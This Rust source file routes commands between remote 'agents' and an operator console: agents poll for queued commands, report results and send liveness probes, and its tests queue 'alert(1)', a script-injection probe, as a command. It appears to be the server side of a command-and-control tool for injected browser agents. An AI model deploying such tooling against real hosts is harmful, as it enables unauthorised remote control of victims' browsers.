//! Routing between agent HTTP traffic and the operator console.

use std::sync::Arc;

use tokio::sync::mpsc;
use webtask_core::{LIVENESS_MARKER, SessionRegistry, WaitGate};

/// A command outcome reported by an agent, destined for the operator.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ResultEvent {
    /// Host the result came from.
    pub host: String,
    /// Agent-reported status, empty when the agent omitted it.
    pub status: String,
    /// Agent-reported response body, if any.
    pub response: Option<String>,
}

/// The three agent-facing operations plus the console's enqueue, bound to
/// the shared registry and wait gate.
///
/// Result events go out on an unbounded channel; the console owns the
/// receiving end and prints them.
pub struct CommandRouter {
    registry: Arc<SessionRegistry>,
    gate: Arc<WaitGate>,
    events: mpsc::UnboundedSender<ResultEvent>,
}

impl CommandRouter {
    /// Build a router over the shared state, returning the event stream
    /// the console should drain.
    #[must_use]
    pub fn new(
        registry: Arc<SessionRegistry>,
        gate: Arc<WaitGate>,
    ) -> (Self, mpsc::UnboundedReceiver<ResultEvent>) {
        let (events, rx) = mpsc::unbounded_channel();
        (
            Self {
                registry,
                gate,
                events,
            },
            rx,
        )
    }

    /// The shared session registry.
    #[must_use]
    pub fn registry(&self) -> &Arc<SessionRegistry> {
        &self.registry
    }

    /// The shared wait gate.
    #[must_use]
    pub fn gate(&self) -> &Arc<WaitGate> {
        &self.gate
    }

    /// Record contact from `host`: create its session on first sight and
    /// put the TTL back to a full window. Called by every agent-facing
    /// endpoint, idempotent.
    pub async fn on_agent_contact(&self, host: &str) {
        if self.registry.get_or_create(host).await {
            tracing::info!(%host, "new agent session");
        }
        self.registry.touch(host).await;
    }

    /// Next queued command for `host`, or the no-op sentinel when the
    /// host has no session or nothing is queued. Never creates a session;
    /// agents may race ahead of registration and that is not an error.
    pub async fn next_command(&self, host: &str) -> String {
        self.registry
            .consume_next(host)
            .await
            .unwrap_or_else(|| webtask_core::NOOP_SENTINEL.to_string())
    }

    /// Accept a command outcome from `host`.
    ///
    /// A liveness probe (`response == "ALIVE"`) produces no operator
    /// output. Either way, a post from the host the console is waiting on
    /// releases the wait.
    pub async fn accept_result(&self, host: &str, status: &str, response: Option<String>) {
        if response.as_deref() == Some(LIVENESS_MARKER) {
            tracing::debug!(%host, "liveness probe");
        } else {
            let event = ResultEvent {
                host: host.to_string(),
                status: status.to_string(),
                response,
            };
            if self.events.send(event).is_err() {
                tracing::warn!(%host, "result dropped, console event channel closed");
            }
        }

        if self.gate.clear_if(host) {
            tracing::debug!(%host, "console wait released by result");
        }
    }

    /// Queue `command` for `host`. Returns `false` when the host has no
    /// live session and the command was dropped.
    pub async fn enqueue(&self, host: &str, command: &str) -> bool {
        self.registry.enqueue(host, command).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use webtask_core::NOOP_SENTINEL;

    fn router() -> (CommandRouter, mpsc::UnboundedReceiver<ResultEvent>) {
        let registry = Arc::new(SessionRegistry::in_memory(3));
        let gate = Arc::new(WaitGate::new());
        CommandRouter::new(registry, gate)
    }

    #[tokio::test]
    async fn contact_is_idempotent() {
        let (router, _rx) = router();
        router.on_agent_contact("a.test").await;
        router.on_agent_contact("a.test").await;
        assert_eq!(router.registry().snapshot().await.len(), 1);
    }

    #[tokio::test]
    async fn next_command_without_session_is_sentinel() {
        let (router, _rx) = router();
        assert_eq!(router.next_command("ghost.test").await, NOOP_SENTINEL);
        // Still no session: nextCommand must not create one.
        assert!(router.registry().snapshot().await.is_empty());
    }

    #[tokio::test]
    async fn enqueue_then_fetch() {
        let (router, _rx) = router();
        router.on_agent_contact("a.test").await;
        assert!(router.enqueue("a.test", "alert(1)").await);
        assert_eq!(router.next_command("a.test").await, "alert(1)");
        assert_eq!(router.next_command("a.test").await, NOOP_SENTINEL);
    }

    #[tokio::test]
    async fn result_releases_only_the_awaited_host() {
        let (router, mut rx) = router();
        router.gate().block_on("a.test");

        router.accept_result("b.test", "200", None).await;
        assert_eq!(router.gate().blocked_host().as_deref(), Some("a.test"));

        router.accept_result("a.test", "200", Some("1".into())).await;
        assert_eq!(router.gate().blocked_host(), None);

        let first = rx.recv().await.unwrap();
        assert_eq!(first.host, "b.test");
        let second = rx.recv().await.unwrap();
        assert_eq!(second.status, "200");
        assert_eq!(second.response.as_deref(), Some("1"));
    }

    #[tokio::test]
    async fn liveness_probe_is_silent_but_still_releases() {
        let (router, mut rx) = router();
        router.gate().block_on("a.test");

        router
            .accept_result("a.test", "200", Some(LIVENESS_MARKER.into()))
            .await;

        assert_eq!(router.gate().blocked_host(), None);
        assert!(rx.try_recv().is_err());
    }
}
